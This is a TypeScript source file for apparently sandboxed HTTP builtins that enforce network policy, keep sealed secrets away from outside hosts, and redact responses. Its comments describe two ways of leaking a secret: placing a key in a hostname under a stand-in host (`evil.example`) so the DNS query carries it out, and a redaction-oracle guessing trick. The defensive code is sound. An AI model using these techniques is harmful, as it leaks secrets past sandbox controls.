/**
 * One gated HTTP request, the body of every `net.http*` builtin:
 *
 *   parse → name-only decision (no DNS for a denied or sealed-to-elsewhere host) →
 *   sealed-flow rule → resolve once → gate(decision with every address) →
 *   reveal sealed bytes → dial the checked addresses → seal a local-only response.
 *
 * A sealed URL's host is secret unless the policy spells it out: `sealed\`http://${key}.vault.lan/\``
 * under `*.vault.lan` puts the key in the host, which the URL parser lower-cases, so the
 * redactor (which knows the key's own spelling) would not recognise it in a message: every
 * message about such a request is built without the host.
 */
import { AegisError } from "../../errors.js";
import { decide } from "../../policy/decide.js";
import { normaliseHost } from "../../policy/patterns.js";
import type { Decision, HttpMethod, Operation, ResolvedPolicy } from "../../policy/types.js";
import { type HostValue, isSealedRef, type RunContext } from "../builtin-types.js";
import { gate } from "../gate.js";
import type { HttpResponse, PinnedHttpClient, PinnedTarget } from "./pinned-client.js";
import { failBeforeDecision, refuse } from "./refuse.js";
import { anySealed, badHeaderValue, type HttpArgs, type MaybeSealed } from "./request-args.js";
import { bareHostname } from "./resolve.js";

type NetOp = Extract<Operation, { kind: "net.http" }>;

/** Response headers whose values are protocol boilerplate, not content worth redacting everywhere. */
const BOILERPLATE_HEADERS = new Set([
  "cache-control",
  "connection",
  "content-length",
  "content-type",
  "date",
  "keep-alive",
  "server",
  "transfer-encoding",
  "vary",
]);

/** Only http(s) URLs without userinfo are ever dialled, whatever the decision says. */
function parseHttpUrl(text: string): URL | undefined {
  let url: URL;
  try {
    url = new URL(text);
  } catch {
    return undefined;
  }
  if (url.protocol !== "http:" && url.protocol !== "https:") return undefined;
  if (url.username !== "" || url.password !== "") return undefined;
  return url;
}

export async function httpCall(
  client: PinnedHttpClient,
  ctx: RunContext,
  name: string,
  method: HttpMethod,
  args: HttpArgs,
): Promise<HostValue> {
  const cap = `net.http_${method.toLowerCase()}`;
  const sealedUrl = isSealedRef(args.url) ? args.url : undefined;
  const urlText = sealedUrl ? ctx.sealed.reveal(sealedUrl) : (args.url as string);
  const display = sealedUrl ? `[sealed ${sealedUrl.label}]` : urlText;
  const url = parseHttpUrl(urlText);
  const carriesSealed = anySealed(args);

  if (sealedUrl && !url) {
    await refuse(
      ctx,
      cap,
      display,
      "sealed-flow",
      `${name} refused: the sealed URL is not an http(s) URL without userinfo`,
    );
  }
  // A sealed URL's path and query are secret: the policy engine only needs (and only
  // sees) its scheme, host and port.
  const opUrl = sealedUrl && url ? `${url.protocol}//${url.host}/` : urlText;
  const nameOp: NetOp = { kind: "net.http", method, url: opUrl };
  const byName = decide(ctx.policy, nameOp);

  if (sealedUrl && (byName.decision === "deny" || !byName.sealed)) {
    // Neither resolved nor named: `sealed\`https://${key}.evil.example\`` would leak the key
    // through the DNS query or through a message that shows the (lower-cased) host.
    await refuse(
      ctx,
      cap,
      display,
      "sealed-flow",
      `${name} refused: sealed value cannot flow to a host outside network.local_only_hosts (the URL is sealed, so its host is not shown)`,
    );
  }
  // From here on no message names a secret host. It is not given to the redactor: a script
  // could pad a short secret into a long host and then learn it by watching which of its own
  // guesses comes back as the redaction marker.
  const hideHost = sealedUrl !== undefined && url !== undefined && !isLiteralLocalOnlyHost(ctx.policy, url);
  if (byName.decision === "deny" || !url) {
    // Denied by name, scheme, port or userinfo: decided and audited without a DNS query,
    // so a denied name is never looked up.
    return gated(ctx, nameOp, display, undefined, async () => {
      throw new AegisError(
        "policy_violation",
        `${name} ${display}: only http(s) URLs without userinfo can be requested`,
      );
    });
  }
  if (carriesSealed && !byName.sealed) {
    await refuse(
      ctx,
      cap,
      display,
      "sealed-flow",
      `${name} refused: sealed value cannot flow to ${hideHost ? display : url.hostname}; only hosts in network.local_only_hosts may receive sealed values`,
    );
  }
  if (ctx.policy.runtime.noOutputAfterLocalOnlyRead && ctx.localOnlyRead && !byName.sealed) {
    await refuse(
      ctx,
      cap,
      display,
      "runtime.no_output_after_local_only_read",
      `${name} ${display} refused: a local-only value was read in this run and runtime.no_output_after_local_only_read is set`,
    );
  }

  let target: PinnedTarget;
  try {
    target = await client.resolveTarget(url, { hideHost });
  } catch (e) {
    const err = e instanceof AegisError ? e : new AegisError("io_error", String(e));
    return failBeforeDecision(
      ctx,
      cap,
      display,
      new AegisError(err.kind, `${name} ${display}: ${err.message}`),
    );
  }

  const op: NetOp = { ...nameOp, resolvedIps: [...target.addresses] };
  const shownReason = hideHost ? hiddenHostReason(name, display) : undefined;
  return gated(ctx, op, display, shownReason, async (decision) => {
    if (carriesSealed && !decision.sealed) {
      throw new AegisError(
        "policy_violation",
        `${name} refused: sealed value cannot flow to ${hideHost ? display : url.hostname}`,
      );
    }
    const headers: Record<string, string> = {};
    for (const [header, value] of args.headers) {
      const text = reveal(ctx, value);
      if (badHeaderValue(text)) {
        throw new AegisError("script_error", `${name}: header ${header} contains CR, LF or NUL`);
      }
      headers[header] = text;
    }
    if (args.jsonBody && headers["content-type"] === undefined) headers["content-type"] = "application/json";
    const body = args.body === undefined ? undefined : reveal(ctx, args.body);
    const network = ctx.policy.network;
    const response = await client.dial(
      target,
      { method, headers, body, display: `${name} ${display}`, hideHost },
      {
        timeoutMs: network.timeoutSeconds * 1000,
        maxResponseBytes: network.maxResponseBytes,
        signal: ctx.signal,
      },
    );
    // A response label is shown to the script and the caller (`[sealed LABEL]`).
    const label = sealedUrl && hideHost ? `${sealedUrl.label} response` : url.hostname;
    return decision.sealed ? sealResponse(ctx, label, response) : toHostValue(response);
  });
}

/**
 * True when the URL's host is spelled out, wildcard-free, in network.local_only_hosts: the
 * policy chose it, not the script, so it is no secret. A host matched by a `*.` entry, or
 * spelled another way (`vault.test.`), may carry sealed bytes.
 */
function isLiteralLocalOnlyHost(policy: ResolvedPolicy, url: URL): boolean {
  const host = bareHostname(url.hostname);
  return policy.network.localOnlyHosts.some((r) => !r.value.includes("*") && normaliseHost(r.value) === host);
}

/**
 * The policy engine's reasons name the host (`… denied: x.vault.lan resolves to …`); for a
 * secret host the rule is shown instead, which is what the reader needs to act on.
 */
function hiddenHostReason(name: string, display: string): (decision: Decision) => string {
  const unnamed = "the URL is sealed, so its host and addresses are not shown";
  return (d) => {
    if (d.decision === "deny") return `${name} ${display} denied by ${d.rule} (${unnamed})`;
    if (d.decision === "confirm") return `${name} ${display} needs confirmation (${d.rule}; ${unnamed})`;
    return `${name} ${display} allowed by ${d.rule} (${unnamed})`;
  };
}

async function gated(
  ctx: RunContext,
  op: NetOp,
  display: string,
  shownReason: ((decision: Decision) => string) | undefined,
  effect: (decision: Decision) => Promise<HostValue>,
): Promise<HostValue> {
  const detail = op.resolvedIps ? { resolvedIps: op.resolvedIps } : undefined;
  const call = {
    op,
    target: display,
    ...(detail ? { detail } : {}),
    ...(shownReason ? { shownReason } : {}),
  };
  const { value } = await gate(ctx, call, effect, (v) => ({
    status: (v as { status?: unknown }).status,
  }));
  return value;
}

function reveal(ctx: RunContext, value: MaybeSealed): string {
  return typeof value === "string" ? value : ctx.sealed.reveal(value);
}

function toHostValue(r: HttpResponse): HostValue {
  return { status: r.status, headers: r.headers, body: r.body };
}

/**
 * A local-only host's response: the body and every header value come back sealed, and
 * their bytes join the redactor, so a host that reflects a secret back cannot route it
 * to the caller.
 */
function sealResponse(ctx: RunContext, host: string, r: HttpResponse): HostValue {
  const headers: Record<string, HostValue> = {};
  for (const [name, value] of Object.entries(r.headers)) {
    headers[name] = ctx.sealed.seal(`${host} ${name}`, value, { redact: false });
    if (value !== "" && !BOILERPLATE_HEADERS.has(name)) ctx.redactor.add(value);
  }
  if (r.body !== "") ctx.redactor.add(r.body);
  return { status: r.status, headers, body: ctx.sealed.seal(host, r.body) };
}
